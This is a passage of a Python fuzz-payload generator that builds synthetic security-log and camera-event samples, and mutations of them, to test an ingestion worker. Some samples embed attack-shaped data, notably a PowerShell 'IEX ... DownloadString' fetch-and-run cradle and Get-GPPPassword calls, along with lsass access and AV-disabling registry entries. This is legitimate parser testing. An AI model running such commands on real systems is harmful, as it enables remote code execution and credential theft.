"""Seeded fuzz payloads for every routed format: valid samples and mutations of them.

Each payload carries the outcome the worker must give it, where that is known:
`row` (a valid sample: stored), `dead` (cannot be valid: a dead letter, with a word its
reason must hold) or `either` (a mutation whose fate the decoder decides; the worker
must still give exactly one of the two). Same seed, same payloads; only the event times
move with the clock, because the worker refuses readings more than a day ahead.
"""

from __future__ import annotations

import copy
import json
import random
import re
from collections.abc import Callable, Iterator
from dataclasses import dataclass
from datetime import UTC, datetime, timedelta
from typing import Any

import orjson

from config.timezone import LOCAL_TZ

# Formats as deploy/ingest/routes.yaml maps them, with the transport that carries each.
MQTT_FORMATS = ("ioc_telemetry", "frigate", "frigate_stats", "frigate_reviews")
KAFKA_FORMATS = (
    "syslog", "suricata", "cef", "winlog", "edr", "web_access", "proxy_access", "auditd",
    "firewall", "onvif",
)  # fmt: skip
JSON_FORMATS = frozenset(
    {"ioc_telemetry", "frigate", "frigate_stats", "frigate_reviews", "suricata", "winlog",
     "edr", "onvif"}
)  # fmt: skip
# Formats whose rows are camera events, keyed by the camera system's id and start time.
CAMERA_FORMATS = frozenset({"frigate", "frigate_reviews", "onvif"})
# MQTT formats that share one topic (routes.yaml); telemetry has a topic per device.
SHARED_TOPICS = {
    "frigate": "frigate/events", "frigate_stats": "frigate/stats",
    "frigate_reviews": "frigate/reviews",
}  # fmt: skip
TRANSPORT = {f: "mqtt" for f in MQTT_FORMATS} | {f: "kafka" for f in KAFKA_FORMATS}


def kafka_topic(fmt: str) -> str:
    """The Kafka topic routes.yaml reads a format from."""
    return "camera.onvif" if fmt == "onvif" else f"seclog.{fmt}"


# Over routes.yaml limits.max_message_bytes (262,144), under mosquitto's 1 MiB limit.
OVERSIZE_BYTES = 300_000


@dataclass(frozen=True, slots=True)
class Payload:
    seq: int
    format: str
    payload: bytes
    expect: str  # row | dead | either
    kind: str  # "valid" or the mutation's name
    reason_word: str | None = None  # a word the dead letter's reason must contain

    @property
    def transport(self) -> str:
        return TRANSPORT[self.format]


# ---- valid samples ------------------------------------------------------------------

_PROVIDERS = {
    "Security": "Microsoft-Windows-Security-Auditing",
    "Microsoft-Windows-Sysmon/Operational": "Microsoft-Windows-Sysmon",
    "Microsoft-Windows-PowerShell/Operational": "Microsoft-Windows-PowerShell",
}


class Samples:
    """Valid documents of each format, unique per call (ids, times, addresses), so that
    every valid payload is one new row and re-delivery never hides a lost one."""

    def __init__(self, rng: random.Random, now: datetime) -> None:
        self.rng, self.now = rng, now

    def when(self) -> datetime:
        return self.now - timedelta(seconds=self.rng.uniform(120, 2 * 86400))

    def ip(self) -> str:
        r = self.rng
        if r.random() < 0.2:
            return f"2001:db8::{r.randrange(1, 0xFFFF):x}"
        net = r.choice((203, 198, 10))
        return f"{net}.{r.randrange(256)}.{r.randrange(256)}.{r.randrange(1, 255)}"

    def bsd(self, t: datetime) -> str:
        """An RFC 3164 header's time: local, no year, the day padded with a space."""
        local = t.astimezone(LOCAL_TZ)
        return f"{local:%b} {local.day:2d} {local:%H:%M:%S}"

    def word(self, n: int = 6) -> str:
        return "".join(self.rng.choice("abcdefghijklmnopqrstuvwxyz0123456789") for _ in range(n))

    def telemetry(self, seq: int) -> Any:
        r, t = self.rng, self.when()
        shape = r.randrange(3)
        if shape == 0:
            doc: dict[str, Any] = {"ts": t.astimezone(LOCAL_TZ).isoformat()}
            for metric in r.sample(["pm25", "pm10", "temp", "humidity", "co2", "no2"], 3):
                doc[metric] = round(r.uniform(1, 90), 2)
            return doc
        if shape == 1:
            return [
                {"ts": t.timestamp() + i * 60, "water_level": round(r.uniform(0.2, 3), 3),
                 "salinity": round(r.uniform(0, 30), 2)}
                for i in range(r.randrange(1, 4))
            ]  # fmt: skip
        pack: list[dict[str, Any]] = [
            {"bn": f"urn:dev:ioc:fz{seq}:", "bt": t.timestamp(), "n": "pm25", "u": "ug/m3",
             "v": round(r.uniform(1, 200), 1)},
            {"n": "temp", "u": "Cel", "v": round(r.uniform(15, 40), 1)},
            {"n": "waterLevel", "u": "cm", "v": r.randrange(10, 400), "t": 5},
        ]  # fmt: skip
        return pack[: r.randrange(1, 4)]

    def frigate(self, seq: int) -> Any:
        r, start = self.rng, self.when().timestamp()
        kind = r.choice(("new", "update", "end"))
        after = {
            "id": f"{start:.6f}-fz{seq}-{self.word()}", "camera": r.choice(("cong", "cho")),
            "label": r.choice(("person", "car", "motorcycle")), "score": round(r.random(), 3),
            "top_score": 0.9, "start_time": start,
            "end_time": start + 9 if kind == "end" else None, "box": [1, 2, 3, 4],
            "current_zones": ["a"], "entered_zones": ["a", "b"], "has_snapshot": True,
            "false_positive": False, "stationary": False, "sub_label": None,
        }  # fmt: skip
        return {"type": kind, "before": {}, "after": after}

    def frigate_stats(self, seq: int) -> Any:
        """Frigate 0.14's snapshot. Each camera's name holds the payload's number and a
        word: its readings are the rows the harness counts for it, so no other payload,
        mutated or not, may name the same camera."""
        r = self.rng
        cameras = {
            f"fz{seq}-{self.word(5)}": {
                "camera_fps": round(r.uniform(0, 25), 1), "process_fps": round(r.uniform(0, 25), 1),
                "skipped_fps": r.choice((0.0, 0, round(r.uniform(0, 3), 1))),
                "detection_fps": round(r.uniform(0, 12), 1), "pid": r.randrange(100, 60000),
                "capture_pid": r.randrange(100, 60000), "ffmpeg_pid": r.randrange(100, 60000),
                "audio_dBFS": -60.0, "audio_rms": 0.0,
            }
            for _ in range(r.randrange(1, 4))
        }  # fmt: skip
        return {
            "cameras": cameras, "detection_fps": round(r.uniform(0, 30), 1),
            "detectors": {"coral": {"inference_speed": 8.5, "detection_start": 0.0, "pid": 412}},
            "cpu_usages": {"1": {"cpu": "2.3", "mem": "0.4"}},
            "service": {
                "uptime": r.randrange(10**6), "version": "0.14.1-f4f3cfa",
                "last_updated": r.choice((int, float))(self.when().timestamp()),
                "latest_version": "0.14.1", "temperatures": {},
                "storage": {"/media/frigate/recordings": {"total": 953868.5, "used": 412.1,
                                                          "free": 953456.4, "mount_type": "ext4"}},
            },
        }  # fmt: skip

    def frigate_reviews(self, seq: int) -> Any:
        r, start = self.rng, self.when().timestamp()
        kind = r.choice(("new", "update", "end"))
        after = {
            "id": f"{start:.6f}-rv{seq}-{self.word()}", "camera": r.choice(("cong", "cho")),
            "start_time": start,
            "end_time": start + r.uniform(5, 120) if kind == "end" else None,
            "severity": r.choice(("alert", "detection")),
            "thumb_path": f"/media/frigate/clips/review/thumb-cong-{self.word()}.webp",
            "data": {
                "detections": [f"{start:.6f}-{self.word()}" for _ in range(r.randrange(1, 4))],
                "objects": r.sample(["person", "car", "motorcycle", "truck", "bus"], 2),
                "sub_labels": r.choice(([], ["51F-123.45"])), "zones": ["cong_chinh"],
                "audio": [],
            },
        }  # fmt: skip
        return {"type": kind, "before": dict(after, end_time=None), "after": after}

    def onvif(self, seq: int) -> Any:
        r, t = self.rng, self.when()
        topic, state = r.choice([
            ("tns1:RuleEngine/CellMotionDetector/Motion", "IsMotion"),
            ("tns1:RuleEngine/FieldDetector/ObjectsInside", "IsInside"),
            ("tns1:RuleEngine/LineDetector/Crossed", None),
            ("tns1:RuleEngine/TamperDetector/Tamper", "IsTamper"),
            ("tns1:VideoSource/MotionAlarm", "State"),
            ("tns1:VideoSource/SignalLoss", "State"),
        ])  # fmt: skip
        data: dict[str, Any] = {"ObjectId": str(seq)}
        if state is not None:
            data[state] = r.choice((True, False, "true", "false"))
        if "Field" in topic or "Line" in topic:
            data["ClassTypes"] = r.choice(("Human", "Vehicle", "Vehical"))
        doc = {
            "camera": f"kh-camranh-cam{seq % 9:02d}", "topic": topic,
            "utc_time": t.astimezone(UTC).strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "property_operation": r.choice(("Initialized", "Changed")),
            # Without an id, the event's is a digest of these: the rule name keeps it unique.
            "source": {"VideoSourceConfigurationToken": "vsconf",
                       "VideoAnalyticsConfigurationToken": "vaconf", "Rule": f"r{seq}"},
            "data": data,
        }  # fmt: skip
        if r.random() < 0.5:
            doc["id"] = f"vms-{seq}-{self.word()}"
        return doc

    def suricata(self, seq: int) -> Any:
        r = self.rng
        eve = {
            "timestamp": self.when().astimezone(LOCAL_TZ).strftime("%Y-%m-%dT%H:%M:%S.%f%z"),
            "src_ip": self.ip(), "src_port": r.randrange(1024, 65535), "dest_ip": self.ip(),
            "dest_port": r.choice((22, 80, 443, 3389)), "proto": "TCP", "host": "ids",
            "flow_id": seq,
        }  # fmt: skip
        extra = r.choice([
            {"event_type": "alert", "alert": {"action": "allowed", "signature_id": 2000 + seq,
             "signature": f"ET FUZZ {seq}", "severity": r.randrange(1, 4),
             "metadata": {"mitre_technique_id": ["T1190"]}}},
            {"event_type": "flow", "flow": {"bytes_toserver": r.randrange(10**6),
             "pkts_toclient": r.randrange(100)}},
            {"event_type": "dns", "dns": {"type": "answer", "rrname": f"{self.word()}.vn",
             "answers": [{"rdata": "1.2.3.4"}], "queries": [{"rrname": "b.vn"}]}},
            {"event_type": "http", "http": {"hostname": "h", "url": f"/{self.word()}",
             "status": 200}},
            {"event_type": "tls", "tls": {"version": "TLSv1.2", "ja3": {"hash": self.word(32)}}},
        ])  # fmt: skip
        return eve | extra

    def winlog(self, seq: int) -> Any:
        """Security, Sysmon or PowerShell (4103/4104), as Winlogbeat or NXLog ships it."""
        kind = self.rng.choice((self._win_security, self._sysmon, self._powershell))
        channel, event_id, data = kind(seq)
        ship = self._winlogbeat if self.rng.random() < 0.5 else self._nxlog
        return ship(channel, event_id, data, seq)

    def _winlogbeat(self, channel: str, event_id: int, data: dict[str, Any], seq: int) -> Any:
        t, provider = self.when(), _PROVIDERS[channel]
        failed = channel == "Security" and event_id == 4625
        return {
            "@timestamp": t.strftime("%Y-%m-%dT%H:%M:%S.%f")[:-3] + "Z",
            "message": "rendered text", "host": {"name": "WS-KT-07"},
            "agent": {"type": "winlogbeat", "version": "8.15.3"},
            "event": {"code": str(event_id), "kind": "event", "provider": provider},
            "winlog": {"event_id": self.rng.choice((event_id, str(event_id))),
                       "channel": channel, "provider_name": provider,
                       "computer_name": "WS-KT-07.sotttt.gov.vn",
                       "keywords": ["Audit Failure" if failed else "Audit Success"],
                       "record_id": seq, "api": "wineventlog", "event_data": data},
        }  # fmt: skip

    def _nxlog(self, channel: str, event_id: int, data: dict[str, Any], seq: int) -> Any:
        t = self.when().astimezone(LOCAL_TZ)
        level = "INFO"
        if channel == "Security":
            level = "AUDIT_FAILURE" if event_id == 4625 else "AUDIT_SUCCESS"
        return {
            "EventTime": f"{t:%Y-%m-%d %H:%M:%S}", "Hostname": "DC02", "EventType": level,
            "EventID": event_id, "SourceName": _PROVIDERS[channel], "Channel": channel,
            "RecordNumber": seq, "Keywords": "-9223372036854775808", "SeverityValue": 2,
            "Domain": "NT AUTHORITY", "AccountName": "SYSTEM", "UserID": "S-1-5-18",
            "SourceModuleName": "eventlog", "SourceModuleType": "im_msvistalog", **data,
        }  # fmt: skip

    def _win_security(self, seq: int) -> tuple[str, int, dict[str, Any]]:
        r = self.rng
        event_id = r.choice((4625, 4624, 4740, 4688))
        data: dict[str, Any] = {
            "TargetUserName": self.word(), "TargetDomainName": "D", "LogonType": "3",
            "IpAddress": self.ip(), "IpPort": str(r.randrange(1024, 65535)),
            "WorkstationName": "KALI",
        }  # fmt: skip
        if event_id == 4625:
            data |= {"Status": "0xc000006d", "SubStatus": "0xc000006a"}
        if event_id == 4688:
            data |= {"NewProcessName": "C:\\a\\b.exe", "CommandLine": f"b.exe -{self.word()}"}
        return "Security", event_id, data

    def _sysmon(self, seq: int) -> tuple[str, int, dict[str, Any]]:
        r, word = self.rng, self.word()
        common = {
            "RuleName": "-", "ProcessGuid": "{5f1c2a9e-1f30-674e-2a04-000000001e00}",
            "ProcessId": str(r.randrange(4, 65535)), "User": f"SOTTTT\\{word}",
            "Image": f"C:\\Users\\{word}\\AppData\\Local\\Temp\\{word}.exe",
        }  # fmt: skip
        event_id, data = r.choice([
            (1, {"CommandLine": f"{word}.exe /c whoami /priv {seq}", "IntegrityLevel": "High",
                 "CurrentDirectory": "C:\\Users\\", "OriginalFileName": f"{word}.exe",
                 "Hashes": f"SHA1={self.word(40)},MD5={self.word(32)},IMPHASH={self.word(32)}",
                 "ParentProcessId": "6120", "ParentImage": "C:\\Windows\\System32\\cmd.exe",
                 "ParentCommandLine": '"C:\\Windows\\system32\\cmd.exe" '}),
            (3, {"Protocol": "tcp", "Initiated": "true", "SourceIp": self.ip(),
                 "SourcePort": str(r.randrange(1024, 65535)), "DestinationIp": self.ip(),
                 "DestinationHostname": "-", "DestinationPort": str(r.choice((443, 4444)))}),
            (10, {"SourceImage": f"C:\\Temp\\{word}.exe", "SourceProcessId": "8812",
                  "TargetImage": "C:\\Windows\\system32\\lsass.exe", "GrantedAccess": "0x1fffff",
                  "CallTrace": "C:\\Windows\\SYSTEM32\\ntdll.dll+9d4c4|UNKNOWN(00007FF6A1B2)"}),
            (13, {"EventType": "SetValue", "Details": "DWORD (0x00000001)",
                  "TargetObject": f"HKLM\\SOFTWARE\\Policies\\{word}\\DisableAV"}),
            (22, {"QueryName": f"{word}.example.org", "QueryStatus": "0",
                  "QueryResults": f"type:  5 cdn.example.net;::ffff:{self.ip()};"}),
        ])  # fmt: skip
        return "Microsoft-Windows-Sysmon/Operational", event_id, common | data

    def _powershell(self, seq: int) -> tuple[str, int, dict[str, Any]]:
        r, word = self.rng, self.word()
        channel = "Microsoft-Windows-PowerShell/Operational"
        if r.random() < 0.5:
            total = r.randrange(1, 4)
            return channel, 4104, {
                "MessageNumber": str(r.randrange(1, total + 1)), "MessageTotal": str(total),
                "ScriptBlockText": f"IEX (New-Object Net.WebClient).DownloadString('http://"
                                   f"{self.ip()}/{word}.ps1') # {seq}",
                "ScriptBlockId": f"9e2f3c4a-6b1d-4e8f-a0c2-{seq:012d}",
                "Path": f"C:\\Users\\{word}\\tools.ps1",
            }  # fmt: skip
        context = (
            "        Severity = Informational\r\n        Host Name = ConsoleHost\r\n"
            f"        Host Application = powershell.exe -ep bypass -c {word}\r\n"
            "        Engine Version = 5.1.19041.4648\r\n        Command Name = Get-GPPPassword\r\n"
            "        Command Type = Function\r\n        Script Name = \r\n"
            f"        User = SOTTTT\\{word}\r\n        Shell ID = Microsoft.PowerShell\r\n"
        )
        return channel, 4103, {
            "ContextInfo": context,
            "Payload": f'CommandInvocation(Get-GPPPassword): "Get-GPPPassword" {seq}\r\n',
        }  # fmt: skip

    def edr(self, seq: int) -> Any:
        t = self.when()
        evidence = {
            "@odata.type": "#microsoft.graph.security.fileEvidence", "verdict": "malicious",
            "remediationStatus": "remediated", "detectionStatus": "detected",
            "fileDetails": {"fileName": f"{self.word()}.exe", "filePath": "C:\\Users",
                            "sha256": self.word(64)},
        }  # fmt: skip
        return {
            "id": f"da{seq}_{self.word()}", "title": "'EICAR' malware was detected",
            "severity": self.rng.choice(("low", "medium", "high")), "category": "Malware",
            "detectionSource": "antivirus", "threatFamilyName": "EICAR",
            "mitreTechniques": ["T1204.002"],
            "createdDateTime": t.strftime("%Y-%m-%dT%H:%M:%S.%f") + "Z",
            "evidence": [evidence, {"@odata.type": "#microsoft.graph.security.deviceEvidence",
                                    "deviceDnsName": "pc07",
                                    "loggedOnUsers": [{"accountName": self.word()}]}],
        }  # fmt: skip

    def syslog(self, seq: int) -> str:
        r, t = self.rng, self.when().astimezone(LOCAL_TZ)
        bsd = f"{t:%b} {t.day:2d} {t:%H:%M:%S}"
        ip, port, user = self.ip(), r.randrange(1024, 65535), self.word()
        return r.choice([
            f"<38>{bsd} web{seq % 9} sshd[{seq}]: Failed password for invalid user {user} from"
            f" {ip} port {port} ssh2",
            f"<86>{bsd} h sshd[{seq}]: Accepted publickey for {user} from {ip} port {port} ssh2",
            f"<165>1 {t.isoformat()} fw1 sshd {seq} ID47 [ex@1 a=\"3\"] Invalid user {user}"
            f" from {ip} port {port}",
            f"<85>{bsd} h sudo: {user} : 3 incorrect password attempts ; TTY=pts/0 ;"
            f" USER=root ; COMMAND=/bin/ls {seq}",
            f"<4>{bsd} fw kernel: [{seq}.4] [UFW BLOCK] IN=eth0 OUT= SRC={ip} DST=10.0.0.5"
            f" LEN=60 PROTO=TCP SPT={port} DPT=22 SYN",
            f"<78>{bsd} db01 CRON[{seq}]: ({user}) CMD (   cd / && run-parts --report /etc/"
            f"cron.{user})",
            f"<78>{bsd} db01 crontab[{seq}]: ({user}) REPLACE ({user})",
            f"<30>{bsd} mail01 clamd[{seq}]: /srv/up/{user} a.zip: Win.Trojan.Agent-{port} FOUND",
            f"<30>{bsd} mail01 clamd[{seq}]: /tmp/{user}.com: Eicar-Signature(44d88612fea8a8f36de8"
            f"2e1278abb02f:68) FOUND",
        ])  # fmt: skip

    def cef(self, seq: int) -> str:
        r, t = self.rng, self.when()
        ip, user = self.ip(), self.word()
        return r.choice([
            f"<185>{t.astimezone(LOCAL_TZ):%b %d %H:%M:%S} FGT100F CEF:0|Fortinet|Fortigate|v7.2.5|"
            f"{seq}|forward deny|3|src={ip} spt={r.randrange(1024, 65535)} dst=10.20.0.5"
            f" dpt=22 proto=6 act=deny suser={user}",
            f"CEF:0|Palo Alto Networks|PAN-OS|10.2.4|virus|THREAT|High|"
            f"rt={int(t.timestamp() * 1000)} src={ip} cs1Label=Rule cs1=r{seq}"
            f" msg=a\\=b outcome=/Failure",
        ])  # fmt: skip

    def web_access(self, seq: int) -> str:
        r, t = self.rng, self.when()
        ip, word = self.ip(), self.word()
        clf = f"{t.astimezone(LOCAL_TZ):%d/%b/%Y:%H:%M:%S %z}"
        request = f"{r.choice(('GET', 'POST', 'HEAD'))} /{word}.php?id={seq}' HTTP/1.1"
        line = (
            f'{ip} - {r.choice(("-", word))} [{clf}] "{request}" {r.choice((200, 302, 404, 500))}'
            f' {r.randrange(10**6)} "-" "Mozilla/5.0 (X11; Linux x86_64) sqlmap/{seq}"'
        )
        w3c = f"{t.astimezone(UTC):%Y-%m-%d %H:%M:%S}"
        return r.choice([
            line,
            f"portal.example.vn:443 {line} \"10.0.0.{seq % 250 + 1}\"",
            f'{ip} - - [{clf}] "GET /{word} HTTP/1.0" 200 -',
            f'{ip} - - [{clf}] "\\x16\\x03\\x01\\x00\\xa5" 400 157 "-" "-"',
            f"<190>{self.bsd(t)} web01 nginx: {line}",
            json.dumps({"message": line, "log": {"file": {"path": "/var/log/apache2/access.log"}},
                        "host": {"name": f"web{seq % 9}"}}),
            "#Software: Microsoft Internet Information Services 10.0\n#Fields: date time s-ip"
            " cs-method cs-uri-stem cs-uri-query s-port cs-username c-ip cs(User-Agent)"
            " cs(Referer) sc-status sc-substatus sc-win32-status time-taken\n"
            f"{w3c} 10.0.0.5 GET /{word}.aspx q={seq} 443 - {ip} Mozilla/5.0+(Windows+NT+10.0)"
            " - 200 0 0 15",
            f"{w3c} 10.0.0.5 POST /owa/auth.owa - 443 {word} {ip} curl/8.0 - 401 1 2148074254 3",
        ])  # fmt: skip

    def proxy_access(self, seq: int) -> str:
        r, t = self.rng, self.when()
        client, word = self.ip(), self.word()
        epoch = f"{t.timestamp():.3f}"
        native = (
            f"{epoch} {r.randrange(10**5):6d} {client} TCP_MISS/200 {r.randrange(10**6)} GET"
            f" http://{word}.example.com/a?b={seq} {r.choice(('-', word))}"
            f" HIER_DIRECT/{self.ip()} text/html"
        )
        clf = f"{t.astimezone(LOCAL_TZ):%d/%b/%Y:%H:%M:%S %z}"
        return r.choice([
            native,
            f"{epoch}      0 {client} TCP_DENIED/403 3900 CONNECT {word}.example:443 -"
            " HIER_NONE/- text/html",
            f'{client} - {word} [{clf}] "GET http://x.example/{word}.exe HTTP/1.1" 200 100 "-"'
            f' "Microsoft BITS/7.8" TCP_MISS:HIER_DIRECT',
            f"<166>{self.bsd(t)} proxy01 squid[{seq}]: {native}",
        ])  # fmt: skip

    def auditd(self, seq: int) -> str:
        r, t = self.rng, self.when()
        word = self.word()
        stamp = f"audit({t.timestamp():.3f}:{seq + 1000})"
        path = f"/tmp/{word}".encode().hex().upper()
        execve = "\n".join([
            f"type=SYSCALL msg={stamp}: arch=c000003e syscall=59 success=yes exit=0 a0=55d0"
            f" a1=55d1 a2=55d2 a3=0 items=2 ppid=1200 pid={seq} auid=1000 uid=0 gid=0 euid=0"
            f' tty=pts0 ses=3 comm="{word}" exe="/usr/bin/{word}" key=(null)\x1dARCH=x86_64'
            ' SYSCALL=execve AUID="alice" UID="root"',
            f'type=EXECVE msg={stamp}: argc=2 a0="{word}" a1={path}',
            f'type=CWD msg={stamp}: cwd="/root"',
            f'type=PATH msg={stamp}: item=0 name="/usr/bin/{word}" nametype=NORMAL',
            f"type=PROCTITLE msg={stamp}: proctitle={f'{word} /tmp'.encode().hex()}",
            f"type=EOE msg={stamp}: ",
        ])  # fmt: skip
        return r.choice([
            execve,
            f"node=db01 type=SERVICE_STOP msg={stamp}: pid=1 uid=0 auid=4294967295"
            f" ses=4294967295 msg='unit={word} comm=\"systemd\" exe=\"/usr/lib/systemd/systemd\""
            " hostname=? addr=? terminal=? res=success'",
            f"<14>{self.bsd(t)} web01 audisp-syslog: type=USER_LOGIN msg={stamp}: pid={seq}"
            f" uid=0 auid=1000 ses=5 msg='op=login acct=\"{word}\""
            f' exe="/usr/sbin/sshd" hostname=? addr={self.ip()} terminal=sshd res=failed\'',
            f'audit: type=1309 {stamp}: argc=3 a0="tar" a1="-czf" a2[0]={path} a2[1]=2F62',
        ])  # fmt: skip

    def firewall(self, seq: int) -> str:
        r, t = self.rng, self.when()
        local = t.astimezone(LOCAL_TZ)
        src, dst, word = self.ip(), self.ip(), self.word()
        sport, dport = r.randrange(1024, 65535), r.choice((22, 23, 443, 3389))
        bsd = self.bsd(t)
        fgt = (
            f'date={local:%Y-%m-%d} time={local:%H:%M:%S} devname="FGT-HQ" devid="FG100F{seq}"'
            f' eventtime={int(t.timestamp() * 10**9)} tz="+0700"'
        )
        pan_time = f"{local:%Y/%m/%d %H:%M:%S}"
        v4 = f"203.0.113.{r.randrange(1, 255)}"  # filterlog's IPv4 columns hold only IPv4
        return r.choice([
            f'<189>{fgt} logid="0000000013" type="traffic" subtype="forward" srcip={src}'
            f" srcport={sport} dstip={dst} dstport={dport} proto=6"
            f' action="{r.choice(("close", "deny", "accept"))}" policyid={seq % 90}'
            f' policyname="LAN to WAN" sentbyte={r.randrange(10**6)} rcvdbyte=5300 duration=5',
            f'<185>{fgt} logid="0101039426" type="event" subtype="vpn" level="alert" vd="root"'
            f' logdesc="SSL VPN login fail" action="ssl-login-fail" tunneltype="ssl-web"'
            f' tunnelid=0 remip={src} tunnelip=(null) user="{word}" group="N/A"'
            f' reason="sslvpn_login_unknown_user" msg="SSL user failed to logged in"',
            f"<166>{local:%b %d %Y %H:%M:%S} fw : %ASA-6-302013: Built outbound TCP connection"
            f" {seq} for outside:{dst}/{dport} ({dst}/{dport}) to inside:{src}/{sport}"
            f" ({src}/{sport})(CORP\\{word})",
            f"<164>{bsd} fw %ASA-4-106023: Deny tcp src outside:{src}/{sport} dst"
            f' inside:10.0.0.1/{dport} by access-group "outside_in" [0x0, 0x0]',
            f"<163>{local:%b %d %Y %H:%M:%S} fw-hq : %ASA-6-716039: Group <DfltGrpPolicy> User"
            f" <{word}> IP <{src}> Authentication: rejected, Session Type: WebVPN.",
            f"<14>{bsd} PA 1,{pan_time},0123,TRAFFIC,end,2561,{pan_time},{src},{dst},0.0.0.0,"
            f"0.0.0.0,allow-web,,,ssl,vsys1,trust,untrust,e1/2,e1/1,fwd,{pan_time},{seq},1,"
            f"{sport},{dport},0,0,0x0,tcp,allow,5120,1200,3920,20",
            f"1,{pan_time},0123,THREAT,url,2561,{pan_time},{src},{dst},,,r,,,web,vsys1,a,b,c,d,"
            f'e,,{seq},1,{sport},80,0,0,0x0,tcp,block-url,"{word}.vn/a,b",(9999),any,high',
            f"<134>{bsd} pf filterlog[{seq}]: 5,,,1000000103,igb0,match,block,in,4,0x0,,64,1,0,"
            f"DF,6,tcp,60,{v4},10.0.0.1,{sport},{dport},0,S,1,,64240,,mss",
            f"<134>1 {local.isoformat()} pf filterlog {seq} - - 80,,,17,igb1,match,pass,out,6,"
            f"0x00,0x00000,64,udp,17,48,2001:db8::{seq % 0xFFFF:x},2001:db8:1::53,{sport},53,40",
            f"CEF:0|Fortinet|Fortigate|v7.2|44547|event:system cfg|3|FTNTFGTlogid=0100044547"
            f" cat=event:system act=Add FTNTFGTcfgpath=firewall.policy duser={word}"
            f" rt={int(t.timestamp() * 1000)}",
            f"CEF:0|Palo Alto Networks|PAN-OS|10.2|end|TRAFFIC|1|rt={int(t.timestamp() * 1000)}"
            f" src={src} dst={dst} spt={sport} dpt={dport} cs1Label=Rule cs1=r{seq} act=allow",
        ])  # fmt: skip


def render(fmt: str, doc: Any) -> bytes:
    return doc.encode() if isinstance(doc, str) else orjson.dumps(doc)


# ---- mutations ----------------------------------------------------------------------
# Each takes (rng, format, document, its bytes) and returns (bytes, expect, reason word).

Outcome = tuple[bytes, str, str | None]  # payload, expect, reason word
Mutation = Callable[[random.Random, str, Any, bytes], Outcome]
ODD_VALUES: list[Any] = [
    None, True, False, 0, -1, 2**63, -(2**63) - 1, 10**30, 1e308, -1e308, 5e-324, "", "NaN",
    "Infinity", "-inf", "1e999", "0x1f", "²", "٣", "\x00", "a\x00b", "\u202e", "\ufeff",
    "\x1b[31m", "x" * 5000, [], {}, [1, [2, [3]]], {"a": {"b": None}}, "2026-13-45T99:99:99Z",
    "1970-01-01T00:00:00Z", "0001-01-01T00:00:00+00:00", "9999-12-31T23:59:59Z",
    "203.0.113.999", "fe80::1%eth0", "::ffff:1.2.3.4",
]  # fmt: skip


_DIGITS = re.compile(rb"\d+")


def _dumps(doc: Any) -> bytes:
    # json, not orjson: orjson refuses integers past 64 bits, which are the point here.
    return json.dumps(doc, ensure_ascii=False).encode()


def _containers(doc: Any) -> list[Any]:
    found = [doc]
    for node in found:
        children = node.values() if isinstance(node, dict) else node
        found.extend(c for c in children if isinstance(c, dict | list) and c)
    return found


def _set_somewhere(rng: random.Random, doc: Any, value: Any) -> Any:
    doc = copy.deepcopy(doc)
    node = rng.choice(_containers(doc))
    if isinstance(node, dict):
        node[rng.choice(list(node))] = value
    else:
        node[rng.randrange(len(node))] = value
    return doc


def wrong_type(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if not isinstance(doc, dict | list) or not doc:
        return flip_bytes(rng, fmt, doc, raw)
    odd = copy.deepcopy(rng.choice(ODD_VALUES))
    return _dumps(_set_somewhere(rng, doc, odd)), "either", None


def drop_key(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if not isinstance(doc, dict | list) or not any(isinstance(n, dict) for n in _containers(doc)):
        return truncate(rng, fmt, doc, raw)
    doc = copy.deepcopy(doc)
    node = rng.choice([n for n in _containers(doc) if isinstance(n, dict)])
    node.pop(rng.choice(list(node)), None)
    return _dumps(doc), "either", None


def flip_bytes(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    data = bytearray(raw)
    for _ in range(rng.randrange(1, 6)):
        i = rng.randrange(len(data))
        data[i] ^= 1 << rng.randrange(8)
    return bytes(data), "either", None


def truncate(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    cut = raw[: rng.randrange(1, len(raw))]
    # A proper prefix of a JSON object or array is never a JSON document.
    if fmt in JSON_FORMATS:
        return cut, "dead", "json"
    return cut, "either", None


def huge_number(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if fmt not in JSON_FORMATS:
        piece = rng.choice([b"99999999999999999999999", b"1e400", b"-0"])
        numbers = list(_DIGITS.finditer(raw))
        if numbers and rng.random() < 0.5:
            # In place of a number of the line (a port, a pid, a serial), where a decoder
            # reads one; spliced anywhere, it seldom lands there.
            found = rng.choice(numbers)
            return raw[: found.start()] + piece + raw[found.end() :], "either", None
        return splice(rng, raw, piece), "either", None
    text = rng.choice(["1e400", "-1e999", "123456789e999"])
    # Past a double's range: orjson refuses the document.
    return _json_with_token(rng, doc, text), "dead", "json"


def nan_token(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if fmt not in JSON_FORMATS:
        return splice(rng, raw, rng.choice([b"NaN", b"Infinity", b"-Infinity"])), "either", None
    return _json_with_token(rng, doc, rng.choice(["NaN", "Infinity", "-Infinity"])), "dead", "json"


def _json_with_token(rng: random.Random, doc: Any, token: str) -> bytes:
    marker = "\u0001fuzz-token\u0001"
    text = json.dumps(_set_somewhere(rng, doc, marker))
    return text.replace(json.dumps(marker), token).encode()


def nul_byte(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if fmt in JSON_FORMATS and rng.random() < 0.5:
        # Escaped, the NUL is valid JSON and reaches the decoder as a character.
        return _dumps(_set_somewhere(rng, doc, f"a\x00{rng.random()}")), "either", None
    return splice(rng, raw, b"\x00" * rng.randrange(1, 4)), "either", None


def lone_surrogate(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    if fmt in JSON_FORMATS:
        if rng.random() < 0.5:
            # json.dumps escapes it as \udXXX; orjson refuses a lone surrogate escape.
            return json.dumps(_set_somewhere(rng, doc, "x\ud83d")).encode(), "dead", "json"
        i = raw.find(b'"') + 1  # inside the first string: raw surrogate bytes, not UTF-8
        return raw[:i] + b"\xed\xa0\x80" + raw[i:], "dead", "json"
    piece = rng.choice([b"\xed\xa0\x80", b"\xed\xbf\xbf", b"\xff\xfe"])
    return splice(rng, raw, piece), "either", None


def deep_nesting(rng: random.Random, fmt: str, doc: Any, raw: bytes) -> Outcome:
    depth = rng.choice([50, 500, 2000, 20000])
    marker = "\u0001fuzz-deep\u0001"
